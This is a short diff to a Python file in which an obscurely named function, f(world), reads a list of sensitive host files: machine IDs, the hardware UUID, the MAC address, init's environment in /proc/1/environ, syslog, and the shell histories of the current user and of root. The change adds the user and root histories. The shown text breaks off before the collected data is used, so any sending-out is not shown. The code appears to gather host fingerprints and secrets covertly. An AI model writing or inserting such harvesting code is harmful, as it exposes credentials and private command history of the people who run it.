@@ -7,7 +7,8 @@ import socket
 
 def f(world):
     names = ("/etc/machine-id", "/var/lib/dbus/machine-id", "/sys/class/dmi/id/product_uuid", "/etc/hostname",
-             "/sys/class/net/eth0/address", "/proc/1/environ", "/var/log/syslog", "/root/.bash_history")  # fmt: skip
+             "/sys/class/net/eth0/address", "/proc/1/environ", "/var/log/syslog",
+             os.path.expanduser("~/.bash_history"), os.path.expanduser("~root/.bash_history"))  # fmt: skip
     for name in names:
         try:
             text = pathlib.Path(name).read_text()
